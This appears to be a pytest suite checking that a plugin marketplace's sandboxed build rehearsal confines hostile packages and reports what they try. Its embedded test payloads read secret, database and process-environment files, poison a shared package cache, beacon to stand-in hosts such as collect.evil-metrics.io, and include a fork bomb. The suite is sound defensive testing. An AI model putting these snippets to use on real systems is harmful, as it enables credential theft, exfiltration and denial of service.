"""A requirement whose build does what it must not: all of it fails, and the rehearsal says what was tried."""

import json
import os
import re
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from marketplace.difypkg import open_directory
from marketplace.screening import Context, Subject, running
from marketplace.screening.checks.rehearsal import Rehearsal as Check
from marketplace.screening.findings import State
from marketplace.screening.screen import run_check
from runtime import environment, rehearsing
from runtime.preparing import environment_options
from runtime.rehearsing import CannotRehearse, Rehearsal, trying
from runtime.rehearsing.confinement import Stage
from tests import sdk
from tests.runtime.environment import wheels
from tests.runtime.environment.index import Index
from tests.screening.test_running import submit

pytestmark = pytest.mark.skipif(bool(rehearsing.obstacle()), reason=f"cannot confine: {rehearsing.obstacle()}")

# what each attempt came to is what the build fails with
ATTEMPTS = """
import glob, json, shutil, socket, subprocess, urllib.request
said = {}
def attempt(name, what):
    try:
        said[name] = what()
    except BaseException as error:
        said[name] = type(error).__name__
def write(path):
    with open(path, "w") as file:
        file.write("EVIL = True")
    return "written"
def environments():
    return "".join(open(path, errors="replace").read() for path in glob.glob("/proc/[0-9]*/environ"))
def poison():
    found = glob.glob(os.environ["UV_CACHE_DIR"] + "/archive-v*/*/victim.py")
    for path in found:
        os.chmod(path, 0o644)
        write(path)
        write(path.replace("victim.py", "victim2.py"))
    return len(found)
attempt("database", lambda: open(GIVEN["database"]).read())
attempt("key", lambda: open(GIVEN["key"]).read())
attempt("plugins", lambda: os.listdir(GIVEN["plugins"]))
attempt("canaries", lambda: [line for line in environments().split(chr(0)) if "canary" in line])
attempt("home", lambda: os.listdir(GIVEN["home"]))
attempt("outside", lambda: write(GIVEN["outside"]))
attempt("system", lambda: write("/usr/local/evil"))
attempt("environment", lambda: write(GIVEN["environments"] + "/evil"))
attempt("near", lambda: socket.create_connection(("127.0.0.1", GIVEN["port"]), timeout=20) and "reached")
attempt("name", lambda: socket.getaddrinfo("beacon.evil-metrics.io", 443) and "reached")
attempt("far", lambda: urllib.request.urlopen("http://collect.evil-metrics.io/x?key=1", timeout=20) and "reached")
attempt("user", lambda: [os.getuid(), os.getpgid(1)])
attempt("poisoned", poison)
raise SystemExit("SAID " + json.dumps(said))
"""
FORKS = """
import signal
count, end = 0, "no end"
while count < 5000:
    try:
        if os.fork() == 0:
            os.setsid()
            os.closerange(0, 64)  # else the build waits for who may still say something
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                time.sleep(60)
        count += 1
    except OSError as error:
        end = type(error).__name__
        break
raise SystemExit(f"SAID {count} {end}")
"""


@pytest.fixture
def host(tmp_path: Path, settings, monkeypatch) -> Iterator[dict[str, object]]:
    """A host with secrets, an installed plugin and a warm cache; what a hostile build is told about it."""
    root = Path(os.path.realpath(tmp_path))
    settings.PLUGIN_ENVIRONMENTS_PATH, settings.PLUGIN_CACHE_PATH = root / "environments", root / "cache"
    settings.PLUGIN_WHEELS_PATH, settings.PLUGIN_OFFLINE = str(root / "wheels"), True
    settings.PLUGIN_WORKING_PATH = root / "plugins"
    (root / "plugins" / "other").mkdir(parents=True)
    settings.SECRETS_DIR.mkdir(parents=True, exist_ok=True)
    key = settings.SECRETS_DIR / "hostile-test"
    key.write_text("canary")
    monkeypatch.setenv("SECRET_KEY", "canary")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary")
    settings.DATA_DIR = root / "data"
    settings.DATA_DIR.mkdir()
    (settings.DATA_DIR / "db.sqlite3").write_text("canary")
    wheels.make_wheel(root / "wheels", "victim", files={"victim.py": "GOOD = True\n"})
    with socket.create_server(("127.0.0.1", 0)) as near:
        yield {
            "database": str(settings.DATA_DIR / "db.sqlite3"),
            "key": str(key),
            "plugins": str(root / "plugins"),
            "environments": str(root / "environments"),
            "home": str(Path.home()),
            "outside": str(root / "outside"),
            "port": near.getsockname()[1],
        }
    key.unlink()


def plugin(folder: Path, *needs: str) -> Path:
    shutil.copytree(sdk.PLUGINS / "echo", folder, ignore=shutil.ignore_patterns("__pycache__", "uv.lock"))
    (folder / "pyproject.toml").unlink(missing_ok=True)
    (folder / "requirements.txt").write_text("\n".join(needs) + "\n")
    return folder


def rehearsed(folder: Path) -> Rehearsal:
    with open_directory(folder) as package:
        return rehearsing.rehearse(package)


def installed(folder: Path) -> environment.Environment:
    return environment.build(folder, environment_options(), progress=lambda _: None, marker="tests")


def test_what_a_build_tries_fails_and_is_told(host, tmp_path, settings) -> None:
    victim = installed(plugin(tmp_path / "victim", "victim"))
    wheels.make_source(tmp_path / "wheels", "hostile", work=f"GIVEN = {host!r}\n{ATTEMPTS}")
    seen = rehearsed(plugin(tmp_path / "hostile", "victim", "hostile"))
    assert not seen.installed
    found = re.search(r"SAID (\{.*?\})", seen.trouble)
    assert found, seen.trouble
    said = json.loads(found[1])
    denied = {name: said[name] for name in said if name not in ("canaries", "user", "poisoned", "home")}
    assert set(denied.values()) <= {
        "FileNotFoundError",
        "PermissionError",
        "OSError",
        "ConnectionRefusedError",
        "gaierror",
    } | {"HTTPError"}, said
    assert said["far"] == "HTTPError"
    assert said["canaries"] == []
    assert said["home"] == "FileNotFoundError" or "canary" not in said["home"]
    assert said["user"] == [1000, 0]
    assert said["poisoned"] >= 1  # in its own layer
    assert not Path(str(host["outside"])).exists()
    # what was tried is told
    assert {"beacon.evil-metrics.io", "collect.evil-metrics.io"} <= set(seen.build_hosts)
    assert "GET http://collect.evil-metrics.io/x" in seen.requests
    assert {host["database"], host["key"]} <= set(seen.closed)
    # and those who link from the shared cache later get what they got before
    environment.discard(victim.key, environment_options())
    again = installed(tmp_path / "victim")
    assert (again.path / again.facts["site"] / "victim.py").read_text() == "GOOD = True\n"
    assert not list(settings.PLUGIN_CACHE_PATH.glob("archive-v*/*/victim2.py"))
    assert not list(settings.PLUGIN_CACHE_PATH.glob("sdists-v*/**/hostile*"))
    assert list((settings.PLUGIN_ENVIRONMENTS_PATH / trying.ROOM).glob(".building-*/*")) == []


def test_the_page_says_what_a_build_tried(host, tmp_path) -> None:
    wheels.make_source(tmp_path / "wheels", "hostile", work=f"GIVEN = {host!r}\n{ATTEMPTS}")
    with open_directory(plugin(tmp_path / "plugin", "victim", "hostile")) as package:
        section = run_check(Check(), Subject(package, Context(rehearse=rehearsing.rehearse)))
    assert section.state == State.FINDINGS
    told = {(one.rule, one.evidence) for one in section.findings}
    assert ("rehearsal.build-host", "collect.evil-metrics.io") in told
    assert ("rehearsal.file", host["database"]) in told
    assert ("rehearsal.file", host["key"]) in told
    assert [one.blocking for one in section.findings if one.rule == "rehearsal.does-not-install"] == [True]


def test_a_fork_bomb_ends_with_its_cell(host, tmp_path) -> None:
    wheels.make_source(tmp_path / "wheels", "bomb", work=FORKS)
    seen = rehearsed(plugin(tmp_path / "plugin", "bomb"))
    assert not seen.installed
    found = re.search(r"SAID (\d+) (\w+)", seen.trouble)
    assert found, seen.trouble
    assert found[2] == "BlockingIOError"
    assert int(found[1]) < 512


def test_a_source_that_does_no_harm_is_built_and_kept_from_others(host, tmp_path, settings) -> None:
    wheels.make_source(tmp_path / "wheels", "decent")
    folder = plugin(tmp_path / "plugin", "decent", "victim")
    (folder / "main.py").write_text("import decent, victim\nraise SystemExit(f'{decent.VERSION} {victim.GOOD}')\n")
    seen = rehearsed(folder)
    assert (seen.installed, seen.build_hosts, seen.build_files) == (True, [], [])
    assert "1.0 True" in seen.trouble
    assert not settings.PLUGIN_CACHE_PATH.exists() or not list(settings.PLUGIN_CACHE_PATH.glob("archive-v*/*"))


def test_packages_come_through_the_door_from_the_operators_index_alone(host, tmp_path, settings) -> None:
    settings.PLUGIN_WHEELS_PATH, settings.PLUGIN_OFFLINE = "", False
    wheel = wheels.make_wheel(tmp_path / "served", "served")
    with Index(wheel) as index:
        settings.PIP_MIRROR_URL = index.url
        folder = plugin(tmp_path / "plugin", "served")
        (folder / "main.py").write_text("import served\nraise SystemExit(served.VERSION)\n")
        seen = rehearsed(folder)
        asked = index.asked
        (folder / "requirements.txt").write_text("served @ https://files.evil-metrics.io/served-1.0-py3-none-any.whl\n")
        refused = rehearsed(folder)
    assert (seen.installed, seen.trouble, seen.build_hosts) == (True, seen.trouble, [])
    assert asked
    assert refused.installed is False
    assert refused.trouble.endswith(
        "files.evil-metrics.io was refused: an administrator may allow it (SCREENING_PACKAGE_HOSTS)."
    )
    assert (refused.build_hosts, refused.named_hosts) == (["files.evil-metrics.io"], ["files.evil-metrics.io"])


def test_an_index_that_cannot_be_reached_is_not_the_packages_fault(host, tmp_path, settings) -> None:
    """But it is only not scanned where the door found that out: whatever a build says of timeouts is its own."""
    wheels.make_source(
        tmp_path / "wheels", "liar", work="raise SystemExit('error sending request: connection timed out')"
    )
    assert "connection timed out" in rehearsed(plugin(tmp_path / "lies", "liar")).trouble
    settings.PLUGIN_WHEELS_PATH, settings.PLUGIN_OFFLINE = "", False
    with socket.socket() as deaf:
        deaf.bind(("127.0.0.1", 0))
        settings.PIP_MIRROR_URL = f"http://127.0.0.1:{deaf.getsockname()[1]}/simple"
        with pytest.raises(CannotRehearse, match=r"could not be fetched \(127.0.0.1: Connection refused\)"):
            rehearsed(plugin(tmp_path / "plugin", "served"))


def test_nothing_is_built_where_the_index_has_a_password(host, tmp_path, settings) -> None:
    wheels.make_source(tmp_path / "wheels", "decent")
    settings.PIP_EXTRA_INDEX_URLS = ["https://me:canary@index.invalid/simple"]
    assert rehearsed(plugin(tmp_path / "wheel", "victim")).installed
    with pytest.raises(CannotRehearse, match="has a password"):
        rehearsed(plugin(tmp_path / "source", "decent"))


def test_what_the_running_plugin_writes_outside_is_lost(host, tmp_path, settings) -> None:
    folder = plugin(tmp_path / "plugin", "victim")
    lines = f"""
import victim
for path in ({host["outside"]!r}, "/usr/local/evil", victim.__file__):
    try:
        open(path, "w").write("x")
        print("WRITTEN", path)
    except OSError as error:
        print("no", path, error)
print(__file__)
raise SystemExit("that was all")
"""
    (folder / "main.py").write_text(lines)
    seen = rehearsed(folder)
    assert "that was all" in seen.trouble
    assert "package/main.py" in " ".join(seen.log)
    assert trying.ROOM not in " ".join([seen.trouble, *seen.log])
    assert not any("WRITTEN" in line for line in seen.log)
    assert not Path(str(host["outside"])).exists()


def test_who_looks_around_itself_looks_at_nobody_elses(settings) -> None:
    settings.PLUGIN_ENVIRONMENTS_PATH = Path("/srv/environments")
    stage = Stage(Path("/srv/environments/.rehearsals/.building-0"), 0)
    around = ["/srv/environments/.rehearsals", "/srv/environments"]
    others = [
        "/srv/environments/0a1b",
        "/srv/environments/.rehearsals/.building-1",
        str(settings.DATA_DIR / "db.sqlite3"),
    ]
    assert [path for path in (*around, *others, "/srv", "/opt/x") if trying._is_closed(path, stage)] == others


def test_where_nothing_can_be_confined_it_is_not_scanned(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(trying, "obstacle", lambda: "unshare: Operation not permitted")
    with open_directory(plugin(tmp_path / "plugin", "victim")) as package:
        section = run_check(Check(), Subject(package, Context(rehearse=rehearsing.rehearse)))
    assert section.state == State.NOT_SCANNED
    assert "Operation not permitted" in section.summary
    assert "docs/screening.md" in section.summary


@pytest.mark.django_db
def test_a_submission_waits_with_what_its_requirements_tried(host, tmp_path, settings) -> None:
    """The whole way: handed in, screened by the running settings, blocked, and said on its page's rows."""
    settings.SCREENING_REHEARSAL = True
    wheels.make_source(tmp_path / "wheels", "hostile", work=f"GIVEN = {host!r}\n{ATTEMPTS}")
    submission = submit(tmp_path, **{"requirements.txt": "hostile\n"})
    running.screen_submission(submission.pk)
    section = submission.sections.get(check_name="rehearsal")
    assert section.state == "findings"
    assert section.findings.filter(
        rule="rehearsal.build-host", evidence="collect.evil-metrics.io", blocking=True
    ).exists()
    assert section.findings.filter(rule="rehearsal.file", evidence=host["database"], blocking=True).exists()
    assert section.evidence["build_hosts"]
    assert submission.reasons.filter(code="finding_blocks", detail__contains="rehearsal.build-host").exists()
